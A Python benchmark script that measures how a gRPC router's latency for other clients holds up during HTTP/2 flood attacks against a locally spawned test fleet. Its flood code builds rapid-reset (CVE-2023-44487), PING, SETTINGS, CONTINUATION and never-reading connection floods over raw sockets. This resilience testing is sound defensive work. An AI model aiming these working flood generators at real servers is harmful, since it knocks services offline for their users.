"""Other clients' gRPC latency while one client floods the router's gRPC listener, beside the same run's quiet p99.

A fake-vllm gRPC replica and a router run as processes (``localfleet``). The measured client (grpc.aio, this
process) keeps ``--concurrency`` HealthCheck calls in flight for ``--seconds`` per arm; a flooder (its own
process, raw sockets) attacks during the flood arms and reconnects whenever the router cuts it:

  rapid reset    HEADERS + RST_STREAM pairs (CVE-2023-44487)
  PING           PING frames
  SETTINGS       empty SETTINGS frames
  CONTINUATION   a HEADERS frame without END_HEADERS, then empty CONTINUATION frames
  never-reading  Generate calls on connections that never read (the replica streams, the router holds)

Arms alternate with quiet ones over ``--rounds``; the table prints medians of each arm's p50/p99 and the
router's RSS after it. No arm asserts anything: the numbers go to docs/benchmarks.md.

    nice -n 10 .venv/bin/python benchmarks/h2_floods.py [--seconds 4] [--rounds 2] [--concurrency 8]
"""
from __future__ import annotations

import argparse
import asyncio
import multiprocessing
import socket
import statistics
import time

from rollout_router.localfleet import local_fleet
from rollout_router.proxy.grpc import h2

HEALTH = "/vllm.grpc.engine.VllmEngine/HealthCheck"
GENERATE = "/vllm.grpc.engine.VllmEngine/Generate"
FLOODS = ("rapid reset", "PING", "SETTINGS", "CONTINUATION", "never-reading")


def _head(path: str) -> bytes:
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"r"),
              (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return h2.encode(fields)


def _burst(kind: str, first: int) -> tuple[bytes, int]:
    """One write of flood frames, and the next stream id."""
    if kind == "rapid reset":
        block = _head(HEALTH)
        ids = range(first, first + 2 * 500, 2)
        return b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, i, block) + h2.rst_stream(i, h2.CANCEL)
                        for i in ids), first + 1000
    if kind == "PING":
        return h2.frame(h2.PING, 0, 0, b"flooding") * 2000, first
    if kind == "SETTINGS":
        return h2.settings_frame({}) * 2000, first
    if kind == "CONTINUATION":
        return h2.frame(h2.HEADERS, 0, first, _head(HEALTH)) + h2.frame(h2.CONTINUATION, 0, first) * 2000, first + 2
    message = b"\x00\x00\x00\x00\x00"  # an empty GenerateRequest: the replica answers what it answers
    return b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, i, _head(GENERATE)) + h2.frame(h2.DATA, h2.END_STREAM, i,
                                                                                          message)
                    for i in range(first, first + 200, 2)), first + 200


def flood(kind: str, host: str, port: int, seconds: float) -> None:
    """The attacker's process: write bursts as fast as the socket takes them; reconnect when cut."""
    deadline = time.monotonic() + seconds
    held: list[socket.socket] = []  # never-reading connections stay open, unread
    while time.monotonic() < deadline:
        if len(held) >= 20:  # 2,000 unread calls: enough to see what they cost
            time.sleep(0.05)
            continue
        try:
            sock = socket.create_connection((host, port), timeout=1.0)
            sock.sendall(h2.PREFACE + h2.settings_frame({h2.INITIAL_WINDOW_SIZE: h2.MAX_WINDOW}))
            stream = 1
            while time.monotonic() < deadline:
                data, stream = _burst(kind, stream)
                sock.sendall(data)
                if kind == "never-reading" and stream > 200:
                    held.append(sock)
                    break
        except OSError:
            continue
        if kind != "never-reading":
            sock.close()
    for sock in held:
        sock.close()


async def measure(target: str, seconds: float, concurrency: int) -> list[float]:
    """Latencies (ms) of HealthCheck calls, ``concurrency`` in flight, for ``seconds``."""
    from grpc import aio

    latencies: list[float] = []
    async with aio.insecure_channel(target) as channel:
        call = channel.unary_unary(HEALTH)
        deadline = time.monotonic() + seconds

        async def worker(index: int) -> None:
            while time.monotonic() < deadline:
                started = time.perf_counter()
                try:
                    await call(b"", metadata=(("x-session-id", f"m{index}"),), timeout=5.0)
                    latencies.append((time.perf_counter() - started) * 1000)
                except aio.AioRpcError:
                    latencies.append(5000.0)  # a failed call counts as the timeout

        await asyncio.gather(*(worker(i) for i in range(concurrency)))
    return latencies


def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:")) / 1024


def p(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))] if ordered else float("nan")


def run_arm(kind: str | None, target: str, args) -> tuple[float, float]:
    host, _, port = target.rpartition(":")
    attacker = None
    if kind is not None:
        attacker = multiprocessing.Process(target=flood, args=(kind, host, int(port), args.seconds + 1.0))
        attacker.start()
        time.sleep(0.5)  # the flood is under way before measuring
    latencies = asyncio.run(measure(target, args.seconds, args.concurrency))
    if attacker is not None:
        attacker.join()
    return p(latencies, 0.5), p(latencies, 0.99)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--rounds", type=int, default=2)
    parser.add_argument("--concurrency", type=int, default=8)
    parser.add_argument("--floods", default=",".join(FLOODS), help=f"comma-separated floods to run (default: all: "
                                                                   f"{', '.join(FLOODS)})")
    args = parser.parse_args()
    floods = [kind.strip() for kind in args.floods.split(",") if kind.strip()]
    unknown = sorted(set(floods) - set(FLOODS))
    if unknown:
        parser.error(f"--floods: unknown flood {', '.join(unknown)}; choose from {', '.join(FLOODS)}")
    with local_fleet(1, grpc=True) as (router, _):
        target = router.grpc_target
        assert target is not None
        results: dict[str, list[tuple[float, float]]] = {}
        rss: dict[str, float] = {}
        for _ in range(args.rounds):
            for kind in floods:
                results.setdefault(f"quiet before {kind}", []).append(run_arm(None, target, args))
                results.setdefault(kind, []).append(run_arm(kind, target, args))
                rss[kind] = rss_mib(router.process.pid)
    print("| flood | other clients' p50 quiet / flood (ms) | p99 quiet (ms) | p99 flood (ms) | p99 ratio | "
          "router RSS after (MiB) |")
    print("|---|---|---|---|---|---|")
    for kind in floods:
        quiet, loud = results[f"quiet before {kind}"], results[kind]
        q50, q99 = statistics.median(r[0] for r in quiet), statistics.median(r[1] for r in quiet)
        f50, f99 = statistics.median(r[0] for r in loud), statistics.median(r[1] for r in loud)
        print(f"| {kind} | {q50:.1f} / {f50:.1f} | {q99:.1f} | {f99:.1f} | {f99 / q99:.1f}x | {rss[kind]:.0f} |")


if __name__ == "__main__":
    main()
